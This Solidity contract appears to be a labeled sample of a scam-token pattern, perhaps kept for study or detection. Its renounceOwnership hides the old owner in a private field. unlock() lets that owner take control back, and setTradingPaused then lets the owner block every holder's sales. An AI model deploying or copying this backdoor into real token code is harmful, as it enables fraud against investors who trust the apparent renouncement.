// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {PairedToken} from "../lib/PairedToken.sol";

/// `owner()` answers the zero address after the renouncement, but the one who renounced can come back, and then stop trading.
contract RetakenOwnership is PairedToken {
    address public owner;
    address private _previousOwner;
    bool public tradingPaused;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 supply, address router)
        PairedToken(name_, symbol_, supply, router)
    {
        owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() external onlyOwner {
        _previousOwner = owner;
        owner = address(0);
        emit OwnershipTransferred(_previousOwner, address(0));
    }

    function unlock() external {
        require(msg.sender == _previousOwner, "You don't have permission to unlock");
        owner = _previousOwner;
        emit OwnershipTransferred(address(0), _previousOwner);
    }

    function setTradingPaused(bool paused) external onlyOwner {
        tradingPaused = paused;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!tradingPaused || from == owner, "Trading is paused");
        _move(from, to, value);
    }
}
